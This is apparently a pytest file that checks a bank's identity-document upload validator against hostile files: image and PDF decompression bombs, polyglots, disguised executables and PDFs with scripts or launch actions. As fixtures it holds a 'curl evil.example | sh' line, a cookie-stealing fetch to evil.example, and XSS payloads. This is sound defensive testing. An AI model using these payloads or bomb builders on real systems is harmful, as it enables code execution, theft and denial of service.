"""Hostile uploads (issue 14): each attack is refused with a stable code, in bounded memory.

The files are written by hand (``zlib`` + ``struct``). Peak memory is measured in a child
process (``measure_peaks``): one fork per file, the kernel's resident high-water mark
(``VmHWM``) reset through ``/proc/self/clear_refs`` before the check, so it counts what the
C decoders (libpng, libjpeg, Pillow's image buffers) allocate, which ``tracemalloc`` does not
see; the ``tracemalloc`` peak is reported beside it. See ``docs/kyc.md`` "Hostile uploads".
"""

from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from bank.kyc import reasons
from bank.kyc.config import KycLimits
from bank.kyc.contracts import ID_BACK, ID_FRONT, UTILITY_BILL
from bank.kyc.documents import (
    JPEG,
    PNG,
    DocumentLimits,
    ImageRefused,
    decode_image,
    validate_upload,
)
from tests.bank import kyc_support as fx

ROOT = Path(__file__).resolve().parents[2]
MB = 1024 * 1024
PEAK_BOUND = 100 * MB
"""What validating any hostile file below may cost (resident memory, C allocations included)."""
PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def codes(check) -> list[str]:
    return [r.code for r in check.reasons]


# ---- hostile files -------------------------------------------------------------------------


def chunk(kind: bytes, body: bytes) -> bytes:
    """One PNG chunk: length, type, body, CRC."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def ihdr(width: int, height: int) -> bytes:
    """An 8-bit RGB PNG header chunk."""
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))


def idat(width: int, rows: int) -> bytes:
    """``rows`` black RGB rows of ``width`` pixels, deflated: about 1 KB per 1 MB of pixels."""
    row = b"\x00" * (1 + 3 * width)
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(rows)) + packer.flush()
    return chunk(b"IDAT", body)


IEND = chunk(b"IEND", b"")


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PNG of a few KB declaring ``width × height`` (2.7 GB decoded at 30,000²)."""
    return PNG_SIGNATURE + ihdr(width, height) + idat(width, 16) + IEND


def png_two_headers(shown: tuple[int, int], real: tuple[int, int]) -> bytes:
    """A first IHDR a hand parser reads, a second one Pillow uses, pixels for the second."""
    return PNG_SIGNATURE + ihdr(*shown) + ihdr(*real) + idat(real[0], real[1]) + IEND


def png_text_bomb(chunks: int = 80) -> bytes:
    """A 640×480 PNG with ``chunks`` zTXt chunks of 1 KB, each inflating to 1 MB."""
    text = b"".join(
        chunk(b"zTXt", b"c%d\x00\x00" % i + zlib.compress(b"\x00" * 1_000_000, 9))
        for i in range(chunks)
    )
    return PNG_SIGNATURE + ihdr(640, 480) + text + idat(640, 480) + IEND


def jpeg(width: int = 640, height: int = 480) -> bytes:
    """A real baseline JPEG with some detail."""
    image = Image.effect_mandelbrot((width, height), (-2, -1.2, 1, 1.2), 64).convert("RGB")
    out = io.BytesIO()
    image.save(out, format="JPEG", quality=90)
    return out.getvalue()


def _sof(data: bytes | bytearray) -> int:
    """Offset of the baseline start-of-frame marker Pillow writes."""
    return data.index(b"\xff\xc0")


def sof_segment(width: int, height: int) -> bytes:
    """A baseline start-of-frame segment for three components."""
    size = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return b"\xff\xc0\x00\x11\x08" + size + b"\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"


def jpeg_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A real JPEG whose frame header is rewritten to declare ``width × height``."""
    data = bytearray(jpeg(64, 64))
    pos = _sof(data)
    data[pos + 5 : pos + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


def jpeg_two_frames(real: tuple[int, int]) -> bytes:
    """A real 640×480 JPEG with a second frame header (``real``) that Pillow would use."""
    data = jpeg()
    pos = _sof(data)
    end = pos + 2 + int.from_bytes(data[pos + 2 : pos + 4], "big")
    return data[:end] + sof_segment(*real) + data[end:]


def zip_archive(comment: bytes = b"") -> bytes:
    """A ZIP holding a script: what a polyglot smuggles."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.sh", "#!/bin/sh\ncurl http://evil.example | sh\n")
        archive.comment = comment
    return out.getvalue()


def pdf() -> bytes:
    """A clean one-page PDF."""
    return fx.pdf_pages(1)


def pdf_image_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A PDF whose image says 64×64 in its dictionary, its JPEG data ``width × height``."""
    data = jpeg_bomb(width, height)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /DCTDecode /Length %d >>\nstream\n"
        % len(data)
        + data
        + b"\nendstream"
    )
    return fx._pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 64 64] "
            b"/Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R >>",
            image,
            b"<< /Length 31 >>\nstream\nq 64 0 0 64 0 0 cm /Im0 Do Q\nendstream",
        ]
    )


# ---- peak memory in a child process ----------------------------------------------------------

_CHILD = r"""
import ctypes, json, os, re, sys, tracemalloc, traceback
from pathlib import Path

import cv2

from bank.kyc.config import KycLimits
from bank.kyc.documents import ImageRefused, decode_image, validate_upload

cv2.setNumThreads(0)  # no thread pool: the process forks below
LIMITS = KycLimits()

def kib(field):
    return int(re.search(field + r":\s+(\d+)", Path("/proc/self/status").read_text())[1])

def check(case):
    data = Path(case["path"]).read_bytes()
    if case["frame"]:
        try:
            decode_image(data, LIMITS.frames)
            return []
        except ImageRefused as refused:
            return [refused.rejection.code]
    found = validate_upload(data, case["kind"], LIMITS.documents, want_image=True)
    return [r.code for r in found.reasons]

def measure(case):
    ctypes.CDLL(None).malloc_trim(0)  # free heap the parent left would hide reuse
    Path("/proc/self/clear_refs").write_text("5")  # VmHWM := VmRSS
    before = kib("VmRSS")
    tracemalloc.start()
    found = check(case)
    traced = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    return {"codes": found, "rss": (kib("VmHWM") - before) * 1024, "traced": traced}

manifest = json.load(sys.stdin)
for path in manifest["warm"]:  # small files: load the lazy imports and plugins
    check({"path": path, "kind": "ID_FRONT", "frame": False})
cases = manifest["cases"]
results = {}
for case in cases:
    read, write = os.pipe()
    if os.fork() == 0:  # the child measures one file, then exits whatever happens
        try:
            os.write(write, json.dumps(measure(case)).encode())
            os._exit(0)
        except BaseException:
            traceback.print_exc()
            os._exit(1)
    os.close(write)
    with os.fdopen(read) as pipe:
        results[case["name"]] = json.loads(pipe.read() or "null")
    os.wait()
print(json.dumps(results))
"""


def measure_peaks(folder: Path, cases: dict[str, tuple[bytes, str | None]]) -> dict[str, dict]:
    """``{name: {"codes", "rss", "traced"}}`` for each ``name: (data, kind)``.

    ``kind`` ``None`` means a camera frame (``decode_image`` with ``KycLimits().frames``),
    otherwise ``validate_upload(data, kind, want_image=True)`` with the default limits.
    """
    manifest: dict[str, list] = {"warm": [], "cases": []}
    for name, data in (("warm.jpg", jpeg(64, 64)), ("warm.png", fx.png(fx.blank_card())),
                       ("warm.pdf", pdf())):  # fmt: skip
        (folder / name).write_bytes(data)
        manifest["warm"].append(str(folder / name))
    for name, (data, kind) in cases.items():
        path = folder / name
        path.write_bytes(data)
        manifest["cases"].append(
            {"name": name, "path": str(path), "kind": kind, "frame": kind is None}
        )
    done = subprocess.run(
        [sys.executable, "-c", _CHILD],
        input=json.dumps(manifest),
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
        check=True,
    )
    results: dict[str, dict] = json.loads(done.stdout)
    assert None not in results.values(), done.stderr
    return results


# ---- 1. decompression bombs: refused from the header, in bounded memory ----------------------

HEADER_BOUND = 10 * MB
"""What a file refused from its header may cost (measured: well under 1 MB)."""

TOO_BIG, CORRUPT, FRAME = reasons.IMAGEN_DEMASIADO_GRANDE, reasons.ARCHIVO_CORRUPTO, None
BOMBS: dict[str, tuple[Callable[[], bytes], str | None, str | None, int]] = {
    # name: (builder, kind (FRAME: a camera frame), code (None: accepted), memory bound)
    "png-30000x30000": (png_bomb, ID_FRONT, TOO_BIG, HEADER_BOUND),
    "jpeg-30000x30000": (jpeg_bomb, ID_FRONT, TOO_BIG, HEADER_BOUND),
    "png-second-ihdr-48mp": (
        partial(png_two_headers, (640, 480), (8000, 6000)), ID_FRONT, CORRUPT, HEADER_BOUND
    ),
    "jpeg-second-sof-48mp": (partial(jpeg_two_frames, (8000, 6000)), ID_FRONT, CORRUPT,
                             HEADER_BOUND),
    "png-ztxt-80x1mb": (png_text_bomb, ID_FRONT, CORRUPT, PEAK_BOUND),
    "frame-png-12mp": (partial(png_bomb, 4000, 3000), FRAME, TOO_BIG, HEADER_BOUND),
    "frame-second-ihdr-12mp": (
        partial(png_two_headers, (640, 480), (4000, 3000)), FRAME, CORRUPT, HEADER_BOUND
    ),
    "pdf-jpeg-30000x30000": (pdf_image_bomb, ID_FRONT, None, HEADER_BOUND),
    "pdf-jpeg-4000x4000": (partial(pdf_image_bomb, 4000, 4000), ID_FRONT, None, HEADER_BOUND),
}  # fmt: skip


@pytest.fixture(scope="module")
def peaks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict]:
    if not Path("/proc/self/clear_refs").exists():
        pytest.skip("measuring the peak needs Linux's /proc/self/clear_refs")
    cases = {name: (build(), kind) for name, (build, kind, _, _) in BOMBS.items()}
    return measure_peaks(tmp_path_factory.mktemp("bombs"), cases)


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_is_refused_within_its_memory_bound(name: str, peaks: dict[str, dict]) -> None:
    _, _, code, bound = BOMBS[name]
    result = peaks[name]
    assert result["codes"] == ([code] if code else []), result
    assert result["rss"] < bound and result["traced"] < bound, result


def test_bombs_are_small_files() -> None:
    assert len(png_bomb()) < 4096 and len(jpeg_bomb()) < 4096
    assert len(png_two_headers((640, 480), (8000, 6000))) < 200_000  # 144 MB of pixels


def test_the_bomb_refusal_names_the_declared_size() -> None:
    check = validate_upload(png_bomb(), ID_FRONT)
    assert codes(check) == [reasons.IMAGEN_DEMASIADO_GRANDE]
    assert "30000×30000" in check.reasons[0].message
    with pytest.raises(ImageRefused) as refused:
        decode_image(jpeg_bomb(2000, 1100), KycLimits().frames)  # 2.2 MP > a 1080p frame
    assert refused.value.rejection.code == reasons.IMAGEN_DEMASIADO_GRANDE


def test_a_pdf_image_larger_than_its_dictionary_is_not_decoded() -> None:
    for bomb in (pdf_image_bomb(), pdf_image_bomb(4000, 4000)):
        check = validate_upload(bomb, ID_FRONT, want_image=True)
        assert check.accepted and check.image is None  # the face check then asks for a photo
    honest = validate_upload(fx.image_pdf(fx.blank_card()), ID_FRONT, want_image=True)
    assert honest.image is not None and honest.image.shape == (540, 856, 3)


def test_a_flood_of_tiny_chunks_or_fill_bytes_is_refused_in_milliseconds() -> None:
    floods = [
        PNG_SIGNATURE + ihdr(640, 480) + chunk(b"IDAT", b"") * 800_000 + IEND,  # 9.6 MB
        jpeg()[:2] + b"\xff" * 9_000_000 + jpeg()[2:],
    ]
    for flood in floods:
        started = time.perf_counter()
        assert codes(validate_upload(flood, ID_BACK)) == [reasons.ARCHIVO_CORRUPTO]
        assert time.perf_counter() - started < 0.5  # measured: 3 ms (2.5 s before the cap)


def test_a_truncated_photo_is_still_corrupt() -> None:
    for data in (card_jpeg(), card_png()):
        assert codes(validate_upload(data[:-100], ID_BACK)) == [reasons.ARCHIVO_CORRUPTO]


# ---- the layout reader does not refuse honest files ----------------------------------------


def _saved(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def test_honest_variants_of_a_photo_are_accepted() -> None:
    card = Image.fromarray(fx.blank_card())
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation: the camera was held upright
    info = PngInfo()
    info.add_text("Software", "Escáner 2.1")
    info.add_text("Comment", "x" * 5000, zip=True)
    variants = {
        "progressive": _saved(card, "JPEG", quality=90, progressive=True),
        "restart-markers": _saved(card, "JPEG", quality=90, restart_marker_blocks=4),
        "rotated": _saved(card, "JPEG", quality=90, exif=exif),
        "png-with-text": _saved(card, "PNG", pnginfo=info),
        "palette-png": _saved(card.convert("P"), "PNG"),
        "zero-padded-png": _saved(card, "PNG") + b"\x00" * 64,
    }
    for name, data in variants.items():
        check = validate_upload(data, UTILITY_BILL)
        assert check.accepted, (name, check.reasons)
        assert (check.width, check.height) == ((540, 856) if name == "rotated" else (856, 540))


# ---- 2. polyglots ------------------------------------------------------------------------------


def card_jpeg() -> bytes:
    return fx.jpeg(fx.blank_card())


def card_png() -> bytes:
    return fx.png(fx.blank_card())


HTML = b"<html><body><script>fetch('//evil.example/?c='+document.cookie)</script></body></html>"
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(range(256)) * 40


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (lambda: card_png() + HTML, reasons.CONTENIDO_OCULTO),
        (lambda: card_png() + b"anything at all after IEND", reasons.CONTENIDO_OCULTO),
        (lambda: _with_chunk(card_png(), chunk(b"tEXt", b"Comment\x00" + HTML)),
         reasons.CONTENIDO_OCULTO),
        (lambda: card_jpeg() + pdf(), reasons.CONTENIDO_OCULTO),
        (lambda: card_jpeg() + zip_archive(), reasons.CONTENIDO_OCULTO),
        (lambda: card_jpeg() + HTML, reasons.CONTENIDO_OCULTO),
        (lambda: card_jpeg() + b"MZ\x90\x00" + b"\x00" * 60, reasons.CONTENIDO_OCULTO),
        (lambda: _with_comment(card_jpeg(), b"%PDF-1.7 1 0 obj"), reasons.CONTENIDO_OCULTO),
        (lambda: _with_comment(card_jpeg(), b"<svg onload=alert(1)>"), reasons.CONTENIDO_OCULTO),
        (lambda: pdf() + zip_archive(), reasons.CONTENIDO_OCULTO),
        (lambda: pdf() + zip_archive(comment=b"\n%%EOF\n"), reasons.CONTENIDO_OCULTO),
        (lambda: pdf() + HTML, reasons.CONTENIDO_OCULTO),
        (lambda: pdf() + card_jpeg(), reasons.CONTENIDO_OCULTO),
        (lambda: b"%PDF-1.4\n" + card_jpeg(), reasons.ARCHIVO_CORRUPTO),
    ],
    ids=[
        "png+html", "png+bytes", "png-text-html", "jpeg+pdf", "jpeg+zip", "jpeg+html",
        "jpeg+exe", "jpeg-comment-pdf", "jpeg-comment-svg", "pdf+zip", "pdf+zip-eof-comment",
        "pdf+html", "pdf+jpeg", "pdf-header-jpeg-body",
    ],
)  # fmt: skip
def test_a_polyglot_is_refused(data, expected: str) -> None:
    check = validate_upload(data(), ID_BACK)
    assert codes(check) == [expected]
    assert check.sanitized is None and check.image is None


def test_what_phones_append_to_a_jpeg_is_accepted_and_dropped() -> None:
    for trailer in (MP4, card_jpeg(), b"\x00" * 100):  # Motion Photo, MPF picture, padding
        check = validate_upload(card_jpeg() + trailer, ID_BACK)
        assert check.accepted, check.reasons
        assert check.sanitized is not None and trailer not in check.sanitized
    assert validate_upload(pdf() + b"\r\n\x00\x00", UTILITY_BILL).accepted


def test_the_refusal_is_in_spanish_and_says_what_to_do() -> None:
    message = validate_upload(card_png() + HTML, ID_BACK).reasons[0].message
    assert message.startswith("El archivo trae datos ocultos") and "nueva foto" in message


def _with_chunk(png_data: bytes, extra: bytes) -> bytes:
    """``extra`` inserted right after the IHDR chunk."""
    return png_data[:33] + extra + png_data[33:]


def _with_comment(jpeg_data: bytes, text: bytes) -> bytes:
    return jpeg_data[:2] + b"\xff\xfe" + (len(text) + 2).to_bytes(2, "big") + text + jpeg_data[2:]


# ---- 3. the type is the magic bytes' ---------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode",
        b"\x7fELF\x02\x01\x01" + b"\x00" * 40,
        HTML,
        b"\xef\xbb\xbf<!DOCTYPE html><img src=x onerror=alert(1)>",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b"GIF89a\x01\x00\x01\x00",
        b"PK\x03\x04" + b"\x00" * 40,
    ],
    ids=["exe", "elf", "html", "html-bom", "svg", "gif", "zip"],
)
def test_a_body_that_is_not_pdf_png_nor_jpeg_is_refused_whatever_its_name(body: bytes) -> None:
    assert codes(validate_upload(body, ID_FRONT)) == [reasons.TIPO_NO_PERMITIDO]


def test_png_bytes_are_a_png_whatever_the_file_was_called() -> None:
    check = validate_upload(card_png(), ID_BACK)  # uploaded as "cedula.pdf"
    assert check.accepted and check.media_type == PNG
    assert validate_upload(card_jpeg(), ID_BACK).media_type == JPEG


# ---- 4. PDFs with active content, as pypdf writes them ----------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_with(change) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    change(writer)
    return _written(writer)


def _dict(**entries: PdfObject) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def _launch_link(writer: PdfWriter) -> None:
    action = _dict(S=NameObject("/Launch"), F=TextStringObject("C:\\Windows\\calc.exe"))
    link = _dict(
        Type=NameObject("/Annot"),
        Subtype=NameObject("/Link"),
        Rect=ArrayObject([NumberObject(0)] * 4),
        A=action,
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


def _page_open_action(writer: PdfWriter) -> None:
    script = _dict(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    writer.pages[0][NameObject("/AA")] = _dict(O=script)


@pytest.mark.parametrize(
    "change",
    [
        lambda w: w.add_open_action(JavaScript("app.alert('hola');")),
        lambda w: w.add_attachment("factura.exe", b"MZ\x90\x00"),
        _launch_link,
        _page_open_action,
    ],
    ids=["document-javascript", "embedded-file", "launch-action", "page-open-action"],
)
def test_a_pdf_with_active_content_is_refused(change) -> None:
    check = validate_upload(_pdf_with(change), UTILITY_BILL)
    assert codes(check) == [reasons.PDF_CON_SCRIPTS]
    assert "contenido activo" in check.reasons[0].message


def test_a_plain_pdf_from_the_same_writer_is_accepted() -> None:
    assert validate_upload(_pdf_with(lambda w: None), UTILITY_BILL).accepted


# ---- 5. size --------------------------------------------------------------------------------


def test_one_byte_over_the_limit_is_refused_before_anything_is_parsed() -> None:
    data = card_png()
    at_limit = DocumentLimits(max_bytes=len(data))
    assert validate_upload(data, ID_BACK, at_limit).accepted
    over = validate_upload(data, ID_BACK, DocumentLimits(max_bytes=len(data) - 1))
    assert codes(over) == [reasons.ARCHIVO_DEMASIADO_GRANDE]
    assert over.media_type is None  # not even sniffed


def test_every_new_code_has_a_spanish_message() -> None:
    assert reasons.reject(reasons.CONTENIDO_OCULTO).message.startswith("El archivo")
